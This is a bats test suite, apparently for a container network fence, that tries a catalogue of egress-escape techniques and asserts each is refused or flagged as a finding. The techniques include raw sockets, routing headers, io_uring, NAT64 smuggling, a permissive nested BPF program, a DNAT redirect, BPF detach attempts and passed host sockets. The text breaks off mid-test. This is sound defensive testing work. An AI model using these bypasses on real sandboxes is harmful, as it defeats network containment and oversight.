#!/usr/bin/env bats
# shellcheck disable=SC2154,SC2016,SC2030,SC2031 # job sets output, stderr and status; single-quoted scripts for containers
# The escape matrix: every known way around a fence, each with proof that no packet left, and with a twin that passes.
# At the end it is printed: technique | result | how closed. 92-deny-by-name.bats adds what is about names.
# The sniffer records both ends; "no packet left" is asked of the container's end, which is the stricter one.

load ../lib/ground
load common
load escapes

# All rows of escape.py, in three containers: without a fence, with refused addresses, and with default deny.
setup_file() {
	escapes_setup_file || return
	export R=$BATS_FILE_TMPDIR
	policy blocklist <<-'POLICY'
		default allow
		pin-blocked no
		block 198.51.100.0/24
		block 2001:db8:51::/64
		block 239.51.100.0/24
		block ff0e::51:0/112
		block 255.255.255.255
	POLICY
	policy allowlist <<-'POLICY'
		default deny
		on-leak all warn
		allow 203.0.113.0/24
		allow 2001:db8:80::/64
		allow 239.0.113.0/24
		allow ff0e::80:0/112
		allow 192.0.2.0/24
		allow 2001:db8:99::/64
	POLICY
	all_rows unfenced
	all_rows blocklist -a deployfence.policy=blocklist
	all_rows allowlist -a deployfence.policy=allowlist
	find /etc/deployfence -type f ! -name default.policy -delete
}

# Rows only read what setup_file has recorded; a test with containers of its own begins with `begin`.
setup() { :; }

begin() {
	begin_test
	HAS_BEGUN=yes
}

teardown() {
	stop_helper
	umount /sys/kernel/security 2>/dev/null || true
	[ -z "${HAS_BEGUN:-}" ] || end_test
}

all_rows() { # NAME [OPTION]…
	local name=$1
	shift
	world_mark
	rm -rf "$RUNDIR"
	job "${PROBES[@]}" "$@" -- sh -c 'for kind in blocked allowed; do python3 /escape.py $kind; done'
	echo "$output" >"$R/$name.results"
	echo "$stderr" >"$R/$name.stderr"
	left_packets >"$R/$name.packets" || true
	expect_fence_gone
	event_lines >"$R/$name.events" || true
}

teardown_file() {
	matrix_print
	world_down
}

# NAME of a row, of "blocked" or "allowed" destinations, in one of the containers: sets destination, result, packets.
read_row() { # CONTAINER blocked|allowed NAME
	local line
	line=$(awk -F '\t' -v name="$3" '$1 == name' "$R/$1.results" | sed -n "$([ "$2" = blocked ] && echo 1p || echo 2p)")
	IFS=$'\t' read -r _ destination result <<<"$line"
	[ -n "$destination" ] || { echo "no result of $3 in $1:" && tail -n 5 "$R/$1.stderr" && return 1; }
	packets=$(packets_to "$destination" "$R/$1.packets")
}

expect_row() { # RESULT-REGEX PACKETS(none|some) CONTAINER KIND NAME
	local destination result packets
	read_row "${@:3}"
	[[ $result =~ ^($1)$ ]] || { echo "${*:3}: result is $result, not $1" && return 1; }
	case $2 in
	none) [ "$packets" = 0 ] ;;
	some) [ "$packets" != 0 ] ;;
	esac || { echo "${*:3}: $packets packets left for $destination" && return 1; }
}

# What said no, by the events of the destination.
closed_by() { # CONTAINER NAME
	local destination result packets what
	read_row "$1" blocked "$2"
	what=$(jq -rs --arg ip "$destination" '[.[] | select(.ip == $ip and .blocked == true) | .blockedAt] | unique | join("+")' \
		"$R/$1.events")
	echo "${what:-connect of a UDP socket}"
}

is_possible() { # NAME
	local destination result packets
	read_row unfenced blocked "$1"
	[[ $result = unavailable* ]] || return 0
	matrix "$1" "$result" "not on this kernel"
	skip "${result#unavailable }: not on this kernel"
}

# Refused in both kinds of policy, at once and without a packet; without a fence the packet is seen, and what is allowed
# passes in all of them.
row() { # NAME [ERRNO-REGEX]
	local destination result packets container
	is_possible "$1"
	matrix "$1" "FAILED" "-"
	expect_row 'ok|sent|silence' some unfenced blocked "$1"
	for container in blocklist allowlist; do
		expect_row "${2:-EPERM}" none "$container" blocked "$1"
		[ "${ROW_TWIN:-}" = no ] || expect_row 'ok|sent|silence' some "$container" allowed "$1"
	done
	read_row blocklist blocked "$1"
	sed -i '$d' "$R/matrix"
	matrix "$1" "$result, no packet" "$(closed_by blocklist "$1")"
}

# Raw sockets are refused whatever they are for.
row_raw() { # NAME
	local container
	matrix "$1" "FAILED" "-"
	expect_row 'ok|sent|silence' some unfenced blocked "$1"
	for container in blocklist allowlist; do
		expect_row EPERM none "$container" blocked "$1"
		expect_row EPERM none "$container" allowed "$1"
		jq -se 'any(.[]; .event == "socket_blocked" and .blocked)' "$R/$container.events"
	done
	sed -i '$d' "$R/matrix"
	matrix "$1" "EPERM, no packet" "socket"
}

# What nobody needs is refused to every destination.
row_nowhere() { # NAME
	local container kind
	is_possible "$1"
	matrix "$1" "FAILED" "-"
	expect_row 'ok|sent|silence' some unfenced blocked "$1"
	for container in blocklist allowlist; do
		for kind in blocked allowed; do expect_row 'EPERM|silence' none "$container" "$kind" "$1"; done
	done
	sed -i '$d' "$R/matrix"
	matrix "$1" "no packet, to no destination" "packet"
}

# --- TCP

@test "TCP: connect is refused at once, no packet" { row tcp; }
@test "TCP over IPv6: connect is refused at once, no packet" { row tcp-ip6; }
@test "TCP, IPv4-mapped: connect is refused at once, no packet" { row tcp-mapped; }
@test "TCP Fast Open by sendto: refused at once, no SYN with data" { row tcp-fastopen-sendto; }
@test "TCP Fast Open by connect: refused at once, no packet" { row tcp-fastopen-connect; }
@test "MPTCP: connect is refused at once, no packet" { row mptcp; }
@test "MPTCP over IPv6: connect is refused at once, no packet" { row mptcp-ip6; }
@test "SCTP: refused, no packet" { row sctp; }
@test "TCP, SO_BINDTODEVICE: connect is refused at once, no packet" { row tcp-bindtodevice; }
@test "TCP, disconnected by AF_UNSPEC and connected anew: refused, no packet" { row tcp-unspec; }
@test "TCP of an orphan: connect is refused at once, no packet" { row tcp-child; }

# --- UDP

@test "UDP: connect is refused at once, no packet" { row udp-connect; }
@test "UDP over IPv6: connect is refused at once, no packet" { row udp-connect-ip6; }
@test "UDP, IPv4-mapped: connect is refused at once, no packet" { row udp-connect-mapped; }
@test "UDP: sendto is refused, no packet" { row udp-sendto; }
@test "UDP over IPv6: sendto is refused, no packet" { row udp-sendto-ip6; }
@test "UDP, IPv4-mapped: sendto is refused, no packet" { row udp-sendto-mapped; }
@test "UDP, an IPv4 address for an IPv6 socket: sendto is refused, no packet" { row udp-sendto-inet-on-ip6; }
@test "UDP, an address of family AF_UNSPEC: sendto is refused, no packet" { row udp-sendto-unspec; }
@test "UDP: sendmsg is refused, no packet" { row udp-sendmsg; }
@test "UDP: sendmmsg is refused for its second message, no packet" { row udp-sendmmsg; }
@test "UDP, MSG_MORE: the first part is refused, no packet" { row udp-more; }
@test "UDP GSO: sendto is refused, no packet" { row udp-gso; }
@test "UDP in fragments: sendto is refused, no fragment" { row udp-large; }
@test "UDP, IP_PKTINFO: sendmsg is refused, no packet" { row udp-pktinfo; }
@test "UDP, IPV6_PKTINFO: sendmsg is refused, no packet" { row udp-pktinfo-ip6; }
@test "UDP, IP_UNICAST_IF: sendto is refused, no packet" { row udp-unicast-if; }
@test "UDP, IPV6_UNICAST_IF: sendto is refused, no packet" { row udp-unicast-if-ip6; }
@test "UDP, SO_BINDTODEVICE: sendto is refused, no packet" { row udp-bindtodevice; }
@test "UDP, disconnected by AF_UNSPEC: sendto is refused, no packet" { row udp-unspec; }
@test "UDP, connected elsewhere and then here: refused, no packet" { row udp-reconnect; }
@test "UDP, connected elsewhere: sendto with an address is refused, no packet" { row udp-sendto-on-connected; }
@test "UDP-Lite: sendto is refused, no packet" { row udplite; }
@test "UDP-Lite over IPv6: sendto is refused, no packet" { row udplite-ip6; }
@test "multicast: sendto is refused, no packet" { row multicast; }
@test "multicast over IPv6: sendto is refused, no packet" { row multicast-ip6; }
@test "broadcast: sendto is refused, no packet" { ROW_TWIN=no row broadcast; }

# --- io_uring

@test "io_uring connect: refused at once, no packet" { row uring-connect; }
@test "io_uring connect in a worker thread: refused at once, no packet" { row uring-connect-async; }
@test "io_uring connect by the polling thread: refused at once, no packet" { row uring-connect-sqpoll; }
@test "io_uring sendmsg: refused, no packet" { row uring-sendmsg; }
@test "io_uring sendmsg in a worker thread: refused, no packet" { row uring-sendmsg-async; }
@test "io_uring socket and connect: refused at once, no packet" { row uring-socket; }

# --- IP headers of the application's own

@test "source route by way of a refused address, TCP: no packet" { row_nowhere source-route-hop-tcp; }
@test "source route by way of a refused address, UDP: refused, no packet" { row_nowhere source-route-hop-udp; }
@test "source route of one message of a connected socket: refused, no packet" { row_nowhere source-route-message; }
@test "source route with an end at an allowed address: refused, no packet" { row_nowhere source-route-end; }
@test "IPv6 routing header 2 by way of a refused address: refused, no packet" { row_nowhere rthdr2-udp; }
@test "IPv6 routing header 2 of one message of a connected socket: refused, no packet" { row_nowhere rthdr2-message; }
@test "IPv6 segment routing by way of a refused address, TCP: dropped to every destination, no packet" { row_nowhere rthdr4-tcp; }
@test "IPv6 segment routing by way of a refused address, UDP: refused to every destination, no packet" { row_nowhere rthdr4-udp; }
@test "IPv6 destination options: refused to every destination, no packet" { row_nowhere destination-options; }
@test "IPv6 hop-by-hop options: refused to every destination, no packet" { row_nowhere hop-options; }

# --- ICMP and raw sockets

@test "ping socket: sendto is refused, no packet" { row ping; }
# the kernel tells nobody that an ICMPv6 packet was dropped
@test "ping socket over IPv6: sendto is refused, no packet" { row ping-ip6 'EPERM|silence'; }
@test "ping socket, connected: refused, no packet" { row ping-connect; }
@test "raw ICMP: no socket, no packet" { row_raw raw-icmp; }
@test "raw UDP: no socket, no packet" { row_raw raw-udp; }
@test "raw UDP over IPv6: no socket, no packet" { row_raw raw-udp-ip6; }
@test "IP_HDRINCL: no socket, no packet" { row_raw raw-header; }
@test "IP_HDRINCL that says another destination than sendto: no socket, no packet" { row_raw raw-header-lies; }
@test "IPV6_HDRINCL: no socket, no packet" { row_raw raw-header-ip6; }
@test "a fragment without a first one: no socket, no packet" { row_raw raw-fragment; }
@test "a TCP segment that is no SYN: no socket, no packet" { row_raw raw-tcp-ack; }
@test "GRE: no socket, no packet" { row_raw raw-gre; }

# --- what needs a container of its own

# The result of a technique in a container: tried JOB-OPTION… -- COMMAND…
tried() {
	job "${PROBES[@]}" "$@"
	expect [ "$status" = 0 ]
}

@test "an established connection that gets a source route: segments do not go to a refused address" {
	begin
	policy nets <<<'block 198.51.100.0/24'
	matrix reroute FAILED -
	tried -- python3 /escape.py reroute 203.0.113.10 198.51.100.9
	expect_packet 198.51.100.9 # without a fence
	world_mark
	tried -a deployfence.policy=nets -- python3 /escape.py reroute 203.0.113.10 198.51.100.9
	expect_no_packet 198.51.100.9
	expect_packet 203.0.113.10
	sed -i '$d' "$R/matrix"
	matrix reroute "no packet" packet
}

@test "NAT64: an address is refused by the one that is in it" {
	begin
	policy nets <<<'block 198.51.100.0/24'
	matrix nat64 FAILED -
	tried -a deployfence.policy=nets -- sh -c 'for address in 64:ff9b::198.51.100.9 64:ff9b::203.0.113.10; do
		python3 /escape.py at $address tcp-ip6 udp-sendto-ip6; done'
	expect [ "$(grep -c EPERM <<<"$output")" = 2 ]
	expect [ "$(grep -c ok <<<"$output")" = 2 ]
	expect_no_packet 64:ff9b::c633:6409
	expect_packet 64:ff9b::cb00:710a
	sed -i '$d' "$R/matrix"
	matrix nat64 "EPERM, no packet" connect
}

@test "IPv4 inside of IPv6 (6to4, Teredo, IPv4-compatible, a site's NAT64): refused by the one that is in it" {
	begin
	policy nets <<<'block 198.51.100.0/24'
	matrix ipv4-in-ipv6 FAILED -
	local refused='2002:c633:6409::1 2001:0:c633:6409::1 2001::39cc:9bf6 ::198.51.100.9 64:ff9b:1:2::198.51.100.9' fence
	local passing='2002:cb00:710a::1 2001:0:cb00:710a::1 2001::34ff:8ef5 ::203.0.113.10 64:ff9b:1:2::203.0.113.10'
	for fence in off on; do
		world_mark
		# shellcheck disable=SC2086 # words
		tried -a "deployfence=$fence" -a deployfence.policy=nets -- sh -c 'for address; do
			python3 /escape.py at $address tcp-ip6 udp-sendto-ip6; done' - $refused $passing
		expect [ "$(grep -c EPERM <<<"$output")" = "$([ "$fence" = on ] && echo 10 || echo 0)" ]
		expect [ "$(grep -c ok <<<"$output")" = "$([ "$fence" = on ] && echo 10 || echo 20)" ]
	done
	expect_no_packet 2002:c633:6409::1 2001:0:c633:6409::1 2001::39cc:9bf6 ::c633:6409 ::198.51.100.9 64:ff9b:1:2::c633:6409
	expect_packet 2002:cb00:710a::1 2001:0:cb00:710a::1 2001::34ff:8ef5 64:ff9b:1:2::cb00:710a
	sed -i '$d' "$R/matrix"
	matrix ipv4-in-ipv6 "EPERM, no packet" connect
}

@test "an absolute target beside another Host: refused at a proxy and at any server, by whichever is blocked" {
	begin
	policy hosts <<<'block github.com'
	matrix two-hosts FAILED -
	local fence
	for fence in off on; do
		world_mark
		tried -a "deployfence=$fence" -a deployfence.policy=hosts -- python3 -c '
import socket
for port in 3128, 80:
    for target, host in ("ok.example", "github.com"), ("github.com", "ok.example"), ("ok.example", "ok.example"):
        try:
            with socket.create_connection(("203.0.113.50", port), 10) as s:
                s.sendall(f"GET http://{target}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
                print("passed" if s.recv(99) else "nothing")
        except OSError as error:
            print(type(error).__name__)'
		expect [ "$(grep -c passed <<<"$output")" = "$([ "$fence" = on ] && echo 2 || echo 6)" ]
	done
	refute world_web_log 'github\.com'
	sed -i '$d' "$R/matrix"
	matrix two-hosts "connection ended" proxy
}

@test "MPTCP subflow to an address that the peer announces: no packet" {
	begin
	command -v nsenter >/dev/null && ip mptcp limits show >/dev/null 2>&1 || skip "no MPTCP here"
	policy nets <<<'block 198.51.100.0/24'
	matrix mptcp-subflow FAILED -
	nsenter --net=/run/netns/world /usr/bin/python3 -c '
import socket, threading
server = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("", 9998))
server.listen()
def echo(client):
    with client:
        while data := client.recv(99):
            client.sendall(data)
while True:
    threading.Thread(target=echo, args=server.accept()[:1], daemon=True).start()
' 3>&- 4>&- &
	# shellcheck disable=SC2034 # for stop_helper
	HELPER=$!
	ip -n world mptcp endpoint add 198.51.100.9 signal
	local fence
	for fence in off on; do
		world_mark
		job_start "${PROBES[@]}" -a "deployfence=$fence" -a deployfence.policy=nets -- sleep 1000
		expect [ "$status" = 0 ]
		nsenter --net="/proc/$(job_pid "$JOB")/ns/net" ip mptcp limits set add_addr_accepted 4 subflows 4
		job_exec "$JOB" python3 -c '
import socket, time
sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
sock.settimeout(5)
sock.connect(("203.0.113.10", 9998))
for _ in range(5):
    sock.sendall(b"x")
    sock.recv(9)
    time.sleep(0.1)
print("ok")'
		expect [ "$output" = ok ]
		if [ $fence = off ]; then expect_packet 198.51.100.9; else expect_no_packet 198.51.100.9; fi
		expect_packet 203.0.113.10
		job_stop "$JOB"
	done
	ip -n world mptcp endpoint flush
	stop_helper
	sed -i '$d' "$R/matrix"
	matrix mptcp-subflow "no packet" connect
}

@test "a nested network namespace with a way out: refused addresses and names stay refused" {
	begin
	local pid
	policy nets <<-'POLICY'
		pin-blocked no
		block github.com
		block 198.51.100.0/24
	POLICY
	matrix nested-netns FAILED -
	job_start "${PROBES[@]}" -c SYS_ADMIN -a deployfence.policy=nets -- unshare -n sleep 1000
	expect [ "$status" = 0 ]
	pid=$(job_pid "$JOB")
	# as an engine in the container would do it
	ip link add nested0 type veth peer name eth0 netns "/proc/$pid/ns/net"
	ip link set nested0 name vethnested
	ip addr add 10.91.0.1/24 dev vethnested
	ip link set vethnested up
	nsenter --net="/proc/$pid/ns/net" sh -c 'ip link set lo up; ip addr add 10.91.0.2/24 dev eth0; ip link set eth0 up
		ip route add default via 10.91.0.1'
	ip -n world route replace 10.91.0.0/24 via 10.89.53.254
	world_mark
	job_exec "$JOB" nsenter --net=/proc/1/ns/net sh -c '
		python3 /escape.py at 198.51.100.9 tcp udp-sendto; python3 /escape.py at 203.0.113.10 tcp udp-sendto
		dig +tries=1 +time=1 @10.89.53.1 github.com; dig +tries=1 +time=1 +tcp @10.89.53.1 github.com'
	expect [ "$(grep -c $'198.51.100.9\tEPERM' <<<"$output")" = 2 ]
	expect [ "$(grep -c $'203.0.113.10\tok' <<<"$output")" = 2 ]
	refute_match "$output" '140\.82\.112\.3'
	expect_no_packet 198.51.100.9
	expect_packet 203.0.113.10
	expect [ "$(near_packets '#53 ')" = "" ]
	expect_event '.reason == "NestedNamespace" and .blocked'
	job_stop "$JOB"
	ip link del vethnested 2>/dev/null || true
	ip -n world route del 10.91.0.0/24
	# a policy may allow it: then it goes unjudged, and that is said
	rm -rf "$RUNDIR"
	policy nested <<<$'nested-netns allow\nblock github.com'
	job "${PROBES[@]}" -c SYS_ADMIN -a deployfence.policy=nested -- unshare --net python3 -c '
import errno, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: s.sendto(b"x", ("10.89.53.1", 53))
except OSError as e: print(errno.errorcode[e.errno])'
	expect [ "$output" = ENETUNREACH ]
	expect_event '.event == "unobserved" and .reason == "NestedNamespace" and .ip == "10.89.53.1" and .port == 53'
	refute has_event '.event == "connect_blocked"'
	sed -i '$d' "$R/matrix"
	matrix nested-netns "EPERM, no packet" connect
}

@test "a nested user and network namespace: nothing leaves it" {
	begin
	matrix nested-userns FAILED -
	tried -a deployfence=on -- sh -c 'unshare -Urn sh -c "ip link set lo up; python3 /escape.py at 203.0.113.10 tcp udp-sendto
		dig +tries=1 +time=1 @10.89.53.1 ok.example"; true'
	refute_match "$output" $'\tok|203\.0\.113\.10$'
	expect_no_packet 203.0.113.10
	sed -i '$d' "$R/matrix"
	matrix nested-userns "no packet" "no route, connect"
}

@test "a nested cgroup with a program that allows: ours still refuses" {
	begin
	local cgroup pid
	policy nets <<<'block 198.51.100.0/24'
	matrix nested-cgroup FAILED -
	printf '%s\n' '#include <linux/bpf.h>' '__attribute__((section("cgroup/connect4"), used))' \
		'int allow(struct bpf_sock_addr *ctx) { return 1; }' >"$DF_HOST/allow.c"
	clang -O2 -target bpf -I"/usr/include/$(uname -m)-linux-gnu" -c -o "$DF_HOST/allow.o" "$DF_HOST/allow.c"
	job_start "${PROBES[@]}" -a deployfence.policy=nets -- sh -c 'until [ -e /go ]; do sleep 0.05; done
		for address in 198.51.100.9 203.0.113.10; do python3 /escape.py at $address tcp; done; sleep 1000'
	cgroup=$(job_cgroup "$JOB")
	pid=$(job_pid "$JOB")
	mkdir "$cgroup/nested"
	bpftool prog load "$DF_HOST/allow.o" /sys/fs/bpf/allow
	bpftool cgroup attach "$cgroup/nested" connect4 pinned /sys/fs/bpf/allow multi
	rm /sys/fs/bpf/allow
	echo "$pid" >"$cgroup/nested/cgroup.procs"
	job_exec "$JOB" touch /go
	eventually is_logged $'203\.0\.113\.10\tok' >/dev/null
	expect_match "$(job_logs "$JOB")" $'198.51.100.9\tEPERM'
	expect_no_packet 198.51.100.9
	expect_packet 203.0.113.10
	job_stop "$JOB"
	sed -i '$d' "$R/matrix"
	matrix nested-cgroup "EPERM, no packet" connect
}

is_logged() { # REGEX
	[[ $(job_logs "$JOB") =~ $1 ]]
}

# --- what cannot be closed is refused or found: the container does not start under default deny, and a warning tells

# TECHNIQUE FINDING JOB-OPTION…
expect_found() {
	local technique=$1 finding=$2
	shift 2
	expect_event ".event == \"finding\" and .finding == \"$finding\""
	printf 'default deny\n' | policy strict
	job "$@" -a deployfence.policy=strict -- echo ran
	expect [ "$status" = 126 ]
	expect [ "$output" = "" ]
	expect_match "$stderr" 'refused: finding '
	sed -i '$d' "$R/matrix"
	matrix "$technique" "$RESULT" "finding $finding: warned of, or not started"
}

# The ground has no securityfs, so the hook does not know of an LSM there. On a host like most it does; where the kernel
# then takes the program, the socket is refused and CAP_NET_RAW is no finding. Some kernels do not let anybody load it.
lsm_row() { # TECHNIQUE FAMILY TYPE
	mount -t securityfs securityfs /sys/kernel/security || return 0
	tried -- python3 /escape.py family "$2" "$3"
	expect_match "$output" created # without a fence
	job "${PROBES[@]}" -a deployfence.policy=nets -- python3 /escape.py family "$2" "$3"
	umount /sys/kernel/security
	expect [ "$status" = 0 ]
	if [[ $output = *EPERM* ]]; then
		expect_event '.event == "socket_blocked" and .reason == "SocketFamily"'
		refute_event '.event == "finding"'
		matrix "$1" EPERM lsm_cgroup
	else
		expect_event '.event == "finding" and .finding == "cap-net-raw"'
	fi
	expect_fence_gone
	rm -rf "$RUNDIR"
}

@test "AF_PACKET: refused by the kernel, or the capability is a finding" {
	begin
	policy nets <<<'block 198.51.100.0/24'
	lsm_row af-packet 17 3
	matrix af-packet-no-lsm FAILED -
	tried -a deployfence.policy=nets -- sh -c 'curl -s -o /dev/null http://203.0.113.10; python3 /escape.py packet 198.51.100.9'
	if [[ $output = *EPERM* ]]; then
		expect_no_packet 198.51.100.9
		RESULT="EPERM, no packet"
	else
		expect_packet 198.51.100.9
		RESULT="open with CAP_NET_RAW"
	fi
	expect_found af-packet-no-lsm cap-net-raw -c NET_RAW
	job -a deployfence.policy=nets -v "$E2E/escape.py:/escape.py:ro" -- python3 /escape.py packet 198.51.100.9
	expect_match "$output" EPERM # podman gives no such capability of itself
}

@test "AF_XDP: refused by the kernel, or the capability is a finding" {
	begin
	policy nets <<<'block 198.51.100.0/24'
	lsm_row af-xdp 44 3
	matrix af-xdp-no-lsm FAILED -
	tried -a deployfence.policy=nets -- python3 /escape.py family 44 3
	RESULT="open with CAP_NET_RAW"
	[[ $output != *EPERM* ]] || RESULT="EPERM"
	expect_found af-xdp-no-lsm cap-net-raw -c NET_RAW
	job -a deployfence.policy=nets -v "$E2E/escape.py:/escape.py:ro" -- python3 /escape.py family 44 3
	expect_match "$output" EPERM
}

# Runs a command with a TCP socket of the host's as descriptor 3, and nothing else of bats.
with_socket() {
	/usr/bin/python3 -c '
import os, socket, sys
os.closerange(3, 100)
os.set_inheritable(socket.socket().detach(), True)
os.execvp(sys.argv[1], sys.argv[1:])' "$@" </dev/null
}

@test "a descriptor from outside: its socket is nobody's here, which is a finding" {
	begin
	policy nets <<<'block 198.51.100.0/24'
	matrix inherited-fd FAILED -
	status=0
	with_socket podman run --rm --preserve-fds=1 --annotation deployfence.policy=nets -v "$E2E/escape.py:/escape.py:ro" \
		"$DF_IMAGE" python3 /escape.py passed 3 198.51.100.9 >"$BATS_TEST_TMPDIR/passed" 2>&1 || status=$?
	cat "$BATS_TEST_TMPDIR/passed"
	expect [ "$status" = 0 ]
	grep 'passed ok' "$BATS_TEST_TMPDIR/passed"
	world_packets ' 198\.51\.100\.9#9999 '
	expect_event '.event == "finding" and .finding == "passed-fds"'
	RESULT="open"
	printf 'default deny\n' | policy strict
	status=0
	with_socket podman run --rm --preserve-fds=1 --annotation deployfence.policy=strict "$DF_IMAGE" echo ran \
		>"$BATS_TEST_TMPDIR/passed" 2>&1 || status=$?
	expect [ "$status" = 126 ]
	grep 'refused: finding passed-fds: ' "$BATS_TEST_TMPDIR/passed"
	sed -i '$d' "$R/matrix"
	matrix inherited-fd open "finding passed-fds: warned of, or not started"
}

@test "a socket that somebody outside hands over (SCM_RIGHTS): not contained, and the mount is a finding" {
	begin
	policy nets <<<'block 198.51.100.0/24'
	matrix scm-rights FAILED -
	hand_sockets "$DF_HOST/helper.socket"
	tried -a deployfence.policy=nets -v "$DF_HOST/helper.socket:/helper.socket" -- sh -c '
		python3 /escape.py handed /helper.socket 198.51.100.9; python3 /escape.py at 198.51.100.9 tcp'
	stop_helper
	expect_match "$output" 'handed ok'
	expect_match "$output" $'tcp\t198.51.100.9\tEPERM' # a socket of its own
	world_packets ' 198\.51\.100\.9#9999 '
	expect_event '.event == "finding" and .finding == "host-socket"'
	printf '%s\n' 'on-leak host-socket refuse' | policy strict
	hand_sockets "$DF_HOST/helper.socket"
	job -v "$DF_HOST/helper.socket:/helper.socket" -a deployfence.policy=strict -- echo ran
	stop_helper
	expect [ "$status$output" = 126 ]
	expect_match "$stderr" 'refused: finding host-socket: '
	sed -i '$d' "$R/matrix"
	matrix scm-rights open "finding host-socket: warned of, or not started"
}

@test "AF_VSOCK: refused by the kernel, and where that has no lsm_cgroup, said to be open" {
	begin
	policy nets <<<'block 198.51.100.0/24'
	lsm_row af-vsock 40 1
	matrix af-vsock-no-lsm FAILED -
	tried -a deployfence.policy=nets -- python3 /escape.py family 40 1
	if [[ $output = *EPERM* ]]; then
		RESULT=EPERM
	else
		RESULT="open where the host has it"
		grep -qi vsock "$E2E/../../docs/man/deployfence-hook.8"
	fi
	sed -i '$d' "$R/matrix"
	matrix af-vsock-no-lsm "$RESULT" "needs lsm_cgroup"
}

@test "netfilter in the container (CAP_NET_ADMIN): what was allowed is led elsewhere, which is a finding" {
	begin
	policy nets <<<'block 198.51.100.0/24'
	matrix dnat FAILED -
	job_start "${PROBES[@]}" -c NET_ADMIN -a deployfence.policy=nets -- sleep 1000
	expect [ "$status" = 0 ]
	nsenter --net="/proc/$(job_pid "$JOB")/ns/net" nft -f - <<-'NFT'
		table ip nat {
			chain output {
				type nat hook output priority -100;
				ip daddr 203.0.113.77 dnat to 198.51.100.9
			}
		}
	NFT
	job_exec "$JOB" sh -c 'python3 /escape.py at 203.0.113.77 tcp; python3 /escape.py at 198.51.100.9 tcp'
	expect_match "$output" $'tcp\t198.51.100.9\tEPERM'
	RESULT="closed"
	[ -z "$(left_packets ' 198\.51\.100\.9#')" ] || RESULT="open with CAP_NET_ADMIN"
	expect_found dnat cap-net-admin -c NET_ADMIN
}

@test "a tun device: a finding" {
	begin
	matrix tun FAILED -
	[ -c /dev/net/tun ] || skip "no /dev/net/tun here"
	tried -a deployfence=on -c NET_ADMIN -o --device=/dev/net/tun -- echo ran
	RESULT="open"
	expect_found tun tun-device -c NET_ADMIN -o --device=/dev/net/tun
}

@test "the socket of a container engine: a finding" {
	begin
	matrix engine-socket FAILED -
	mkdir -p /run/podman
	hand_sockets /run/podman/podman.sock
	tried -a deployfence=on -v /run/podman/podman.sock:/run/podman/podman.sock -- echo ran
	RESULT="open"
	expect_found engine-socket engine-socket -v /run/podman/podman.sock:/run/podman/podman.sock
	stop_helper
	rm -r /run/podman
}

@test "a container with CAP_BPF: a finding" {
	begin
	matrix_open cap-bpf
	tried -a deployfence=on -c BPF -- echo ran
	RESULT="open"
	expect_found cap-bpf cap-bpf -c BPF
}

@test "a privileged container: a finding" {
	begin
	matrix_open privileged
	tried -a deployfence=on -o --privileged -- echo ran
	RESULT="open"
	expect_found privileged privileged -o --privileged
}

@test "a container with the host's cgroups: a finding" {
	begin
	matrix_open host-cgroup
	tried -a deployfence=on -v /sys/fs/cgroup:/sys/fs/cgroup -- echo ran
	RESULT="open"
	expect_found host-cgroup host-cgroup -v /sys/fs/cgroup:/sys/fs/cgroup
}

@test "the worker traced by root of a container in the host's pid namespace: refused, and a finding" {
	begin
	matrix_open proxy-ptrace
	job_start -o --pid=host -o --security-opt=seccomp=unconfined -a deployfence=on -- sleep 1000
	eventually test -n "$(fence_pid df-worker)"
	job_exec "$JOB" intrude "$(fence_pid df-worker)" 2
	expect_match "$output" 'successes 0$'
	job_stop "$JOB"
	RESULT="EPERM"
	expect_found proxy-ptrace host-pid -o --pid=host
}

@test "the host's files, processes and devices by a mount: a finding" {
	begin
	matrix_open host-mount
	tried -a deployfence=on -v /etc:/host -- echo ran
	RESULT="open"
	expect_found host-mount host-mount -v /etc:/host
}

@test "a sibling of the cgroup that crun delegates: fenced, since the fence stands above it" {
	begin
	matrix_open delegate-cgroup
	policy nets <<<'block 198.51.100.0/24'
	job "${PROBES[@]}" -a run.oci.delegate-cgroup=sub -o --systemd=always -a deployfence.policy=nets -- sh -c '
		mkdir /sys/fs/cgroup/free && echo $$ >/sys/fs/cgroup/free/cgroup.procs && cat /proc/self/cgroup
		for address in 198.51.100.9 203.0.113.10; do python3 /escape.py at $address tcp; done'
	expect_match "$output" '0::/free'
	expect_match "$output" $'198.51.100.9\tEPERM'
	expect_match "$output" $'203.0.113.10\tok'
	expect_no_packet 198.51.100.9
	matrix_close delegate-cgroup "EPERM, no packet" "programs at the root of the namespace"
}

@test "a resolver behind a socket of the host's (nscd, systemd-resolved by varlink, Avahi): a finding" {
	begin
	local path name
	for path in /run/nscd/socket /run/systemd/resolve/io.systemd.Resolve /run/avahi-daemon/socket; do
		name=resolver-socket-$(basename "$(dirname "$path")")
		matrix_open "$name"
		mkdir -p "$(dirname "$path")"
		hand_sockets "$path"
		tried -a deployfence=on -v "$path:$path" -- echo ran
		RESULT="open"
		expect_found "$name" resolver-socket -v "$path:$path"
		stop_helper
		rm "$path"
	done
}

@test "CAP_NET_ADMIN alone detaches nothing" {
	begin
	matrix_open detach
	policy nets <<<'block 198.51.100.0/24'
	job_start "${PROBES[@]}" -c NET_ADMIN -a deployfence.policy=nets -- sleep 1000
	# bpf(BPF_PROG_DETACH) at the container's cgroup, for every type of attachment, and unlinking what is in there
	job_exec "$JOB" python3 -c '
import ctypes, errno, os, platform, struct
libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": 321, "aarch64": 280}[platform.machine()]
cgroup = os.open("/sys/fs/cgroup", os.O_RDONLY | os.O_DIRECTORY)
results = set()
for kind in range(60):
    attr = struct.pack("=4I", cgroup, 0, kind, 0) + bytes(112)
    r = libc.syscall(number, 9, attr, len(attr))
    results.add("detached" if r == 0 else errno.errorcode[ctypes.get_errno()])
print(*sorted(results))'
	expect [ "$status" = 0 ]
	refute_match "$output" detached
	expect_match "$output" 'EINVAL|ENOENT|EPERM'
	world_mark
	job_exec "$JOB" sh -c 'for address in 198.51.100.9 203.0.113.10; do python3 /escape.py at $address tcp udp-sendto; done
		dig +tries=1 ok.example'
	expect [ "$(grep -c $'198.51.100.9\tEPERM' <<<"$output")" = 2 ]
	expect [ "$(grep -c $'203.0.113.10\tok' <<<"$output")" = 2 ]
	expect_match "$output" 'status: NOERROR'
	expect_no_packet 198.51.100.9
